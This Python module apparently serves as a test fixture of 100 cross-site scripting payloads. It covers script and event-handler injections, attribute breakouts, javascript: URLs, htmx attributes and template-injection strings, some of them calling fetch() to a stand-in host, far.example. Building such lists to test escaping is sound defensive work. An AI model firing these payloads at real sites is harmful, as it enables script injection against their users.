"""A hundred names that would run if a page took them for anything but text."""

from __future__ import annotations

DEED = "alert(1)"
FAR = "https://far.example/x"
_FORMS = (
    "<script>{deed}</script>",
    "</script><script>{deed}</script>",
    "</title><script>{deed}</script>",
    "</textarea><script>{deed}</script>",
    "<ScRiPt>{deed}</sCrIpT>",
    "<script src={far}></script>",
    "<img src=x onerror={deed}>",
    "<img src={far}>",
    '"><img src=x onerror={deed}>',
    "'><img src=x onerror={deed}>",
    "<svg onload={deed}>",
    "<svg><script>{deed}</script></svg>",
    "<svg><use href={far}#a></svg>",
    "<body onload={deed}>",
    "<iframe src={far}></iframe>",
    "<iframe srcdoc='<script>{deed}</script>'></iframe>",
    "<object data={far}></object>",
    "<embed src={far}>",
    "<link rel=stylesheet href={far}>",
    "<style>@import '{far}';</style>",
    "<style>body{{background:url({far})}}</style>",
    "<div style=background:url({far})>",
    "<base href={far}>",
    "<meta http-equiv=refresh content=0;url={far}>",
    "<form action={far}><button autofocus>x</button></form>",
    "<input autofocus onfocus={deed}>",
    "<details open ontoggle={deed}>",
    "<video><source onerror={deed}></video>",
    "<audio src={far} autoplay></audio>",
    "<marquee onstart={deed}>",
    '" onmouseover={deed} x="',
    "' autofocus onfocus={deed} x='",
    '" autofocus onfocus={deed} x="',
    "`onerror={deed}`",
    "javascript:{deed}",
    "<a href=javascript:{deed}>x</a>",
    "<a href=data:text/html,<script>{deed}</script>>x</a>",
    "<div hx-get={far} hx-trigger=load></div>",
    "<div hx-on:load={deed} hx-trigger=load></div>",
    "<div data-hx-get={far} data-hx-trigger=load></div>",
    "<div hx-get=/runs hx-trigger=load hx-vals='js:{{a:{deed}}}'></div>",
    "<hx-partial hx-target=body><script>{deed}</script></hx-partial>",
    "<template><script>{deed}</script></template>",
    "<math><mtext></mtext><script>{deed}</script></math>",
    "<noscript><p title='</noscript><img src=x onerror={deed}>'>",
    "<!--><script>{deed}</script>-->",
    "<![CDATA[><script>{deed}</script>]]>",
    "{{{{ 7*7 }}}}{{% for x in (1,) %}}{{{{ x }}}}{{% endfor %}}",
    "${{{deed}}}",
    "\\u003cscript\\u003e{deed}\\u003c/script\\u003e",
)
PAYLOADS = tuple(
    f"{number} " + form.format(deed=deed, far=FAR)
    for number, (form, deed) in enumerate(
        (form, deed) for deed in (DEED, "window.ran=1,fetch('" + FAR + "')") for form in _FORMS
    )
)
